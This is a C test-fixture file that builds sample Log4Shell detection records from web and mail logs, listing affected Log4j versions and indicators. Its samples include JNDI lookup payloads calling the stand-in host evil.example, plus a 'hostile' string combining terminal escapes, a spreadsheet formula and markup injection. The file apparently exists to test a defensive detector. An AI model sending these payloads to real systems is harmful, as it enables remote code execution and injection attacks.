#include "samples.h"

#define S(z) CT_STR(z)
#define HOSTILE "x\0\x1b[2J\r\n,\"=1+1<b>\xff\xe2\x80\xae\xc2\x9b" "${jndi:ldap://evil.example/a}](http://evil.example){0}"

const char *const sample_names[N_SAMPLES] = {"plain", "full", "bare", "hostile", "mail"};

static const struct ct_attempt_indicator plain_indicators[] = {
    {CT_STR_INIT("ldap"), CT_STR_INIT("evil.example"), CT_STR_INIT("/a"), 1389},
};
static const struct ct_attempt_fires plain_fires[] = {
    {CT_STR_INIT("2.0-beta9-2.14.1"), "message", ""},
    {CT_STR_INIT("2.0-beta9-2.14.1"), "single", ""},
};
static const struct ct_attempt_indicator full_indicators[] = {
    {CT_STR_INIT("ldap"), CT_STR_INIT("127.0.0.1#evil.example"), CT_STR_INIT("/a?token=hunter2"), 1389},
    {CT_STR_INIT("dns"), CT_STR_INIT("2001:db8::1"), CT_STR_INIT(""), 53},
};
static const struct ct_attempt_fires full_fires[] = {
    {CT_STR_INIT("2.8-2.14.1"), "message", ""},
    {CT_STR_INIT("2.15.0"), "message", "message lookups on"},
    {CT_STR_INIT("2.8-2.15.0"), "context", "layout holds ${ctx:...}"},
};
static const struct ct_attempt_fires hostile_fires[] = {{CT_STR_INIT("2.8"), "message", "${x}"}};
static const struct ct_attempt_indicator hostile_indicators[] = {
    {CT_STR_INIT(HOSTILE), CT_STR_INIT(HOSTILE), CT_STR_INIT(HOSTILE), 1},
};
static const struct ct_attempt_fires mail_fires[] = {{CT_STR_INIT("2.15.0"), "message", "message lookups on"}};

static void fill_full(struct ct_attempt *a)
{
    a->time_us = 1639144927123456;
    a->forwarded = S("198.51.100.7, 10.0.0.1");
    a->client = S("[2001:db8::7]:51000");
    a->target = S("shop.example:8443");
    a->path = S("/search?session=hunter2");
    a->waf = S("count");
    a->certainty = "conditional";
    a->traits[0] = "leak";
    a->traits[1] = "dos";
    a->n_traits = 2;
    a->conditions[0] = S("env:USER");
    a->n_conditions = 1;
    a->field = S("url.original");
    a->chain[0] = "percent";
    a->chain[1] = "base64";
    a->n_chain = 2;
    a->raw = S("/search?session=hunter2&q=%24%7Bjndi%3Aldap%3A//evil.example/a%7D");
    a->scanner = S("interactsh");
    a->indicators = full_indicators;
    a->n_indicators = 2;
    a->fires = full_fires;
    a->n_fires = 3;
    a->calls = 3;
    a->contacted = true;
    a->masked = true;
}

struct ct_attempt sample(size_t i)
{
    struct ct_attempt a = {
        .time_us = 1639144927000000, .source = S("/var/log/nginx/access.log"), .line = 42, .offset = 4096,
        .log_format = "combined", .client = S("203.0.113.7"), .target = S("shop.example"), .method = S("GET"), .path = S("/"),
        .status = S("200"), .grade = "exploit", .certainty = "certain", .field = S("user_agent.original"),
        .normal = S("${jndi:ldap://evil.example:1389/a}"), .raw = S("${jndi:ldap://evil.example:1389/a}"),
        .campaign = S("ldap evil.example:1389 /a"), .indicators = plain_indicators, .n_indicators = 1, .fires = plain_fires,
        .n_fires = 2, .calls = 1,
    };
    if (i == 1) fill_full(&a);
    if (i == 2)
        a = (struct ct_attempt){.time_us = INT64_MIN, .source = S("stdin"), .log_format = "raw", .grade = "attempt",
                                .certainty = "unknown"};
    if (i == 3) {
        ct_str h = S(HOSTILE);
        a.source = a.client = a.forwarded = a.target = a.method = a.path = a.status = a.waf = h;
        a.field = S("x\0\x1b[2J${x}\xff](0)");
        a.normal = a.raw = a.campaign = a.scanner = a.conditions[0] = h;
        a.n_conditions = 1;
        a.indicators = hostile_indicators;
        a.fires = hostile_fires;
        a.n_fires = 1;
    }
    if (i == 4) {
        a.source = S("journal:postfix.service");
        a.line = 0;
        a.log_format = "postfix";
        a.client = S("mail.evil.example");
        a.target = a.method = a.path = S("");
        a.status = S("550");
        a.grade = "reach";
        a.certainty = "unknown";
        a.field = S("message");
        a.fires = mail_fires;
        a.n_fires = 1;
    }
    ct_event_id(a.source, a.offset, a.raw, a.id);
    return a;
}
